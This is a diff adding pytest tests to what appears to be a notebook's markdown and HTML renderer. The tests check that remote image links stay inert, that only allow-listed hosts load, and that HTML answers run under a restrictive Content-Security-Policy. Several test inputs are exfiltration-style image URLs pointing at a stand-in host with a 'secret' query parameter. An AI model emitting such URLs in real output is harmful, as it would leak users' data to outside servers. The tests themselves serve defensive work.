@@ -95,3 +95,43 @@ def test_html_format_is_shown_in_a_script_less_sandbox() -> None:
     # Everything model-made sits inside the escaped srcdoc attribute.
     assert "<script" not in html and "<b " not in html
     assert "&lt;script&gt;" in html and "&quot;x()&quot;" in html
+
+
+@pytest.mark.parametrize(
+    "src",
+    [
+        "https://attacker.example/leak.png?d=secret",
+        "//attacker.example/leak.png?d=secret",
+        "HTTP://Attacker.Example/x.png",
+    ],
+)
+def test_remote_images_are_links_that_load_nothing(src: str) -> None:
+    html = render_markdown(f"look ![chart]({src})")
+    assert "<img" not in html
+    assert 'class="gumloop-remote-image"' in html and "attacker.example" in html.lower()
+    assert 'rel="noopener noreferrer"' in html
+
+
+def test_images_from_allowed_hosts_are_shown() -> None:
+    from gumloop_nb.notebook.render import set_allowed_image_hosts
+
+    set_allowed_image_hosts(["images.example.org", "*.cdn.example.net"])
+    try:
+        html = render_markdown(
+            "![a](https://images.example.org/a.png) ![b](https://eu.cdn.example.net/b.png) "
+            "![c](https://example.org/c.png)"
+        )
+        assert '<img src="https://images.example.org/a.png"' in html
+        assert '<img src="https://eu.cdn.example.net/b.png"' in html
+        assert '<img src="https://example.org/c.png"' not in html
+    finally:
+        set_allowed_image_hosts([])
+
+
+def test_html_answers_cannot_load_remote_resources() -> None:
+    import html as html_module
+
+    html = render_answer('<img src="https://attacker.example/p.png?d=1">', "html")
+    document = html_module.unescape(html.split('srcdoc="', 1)[1].split('"', 1)[0])
+    assert document.startswith('<meta http-equiv="Content-Security-Policy"')
+    assert "default-src &#x27;none&#x27;; img-src data:;" in document
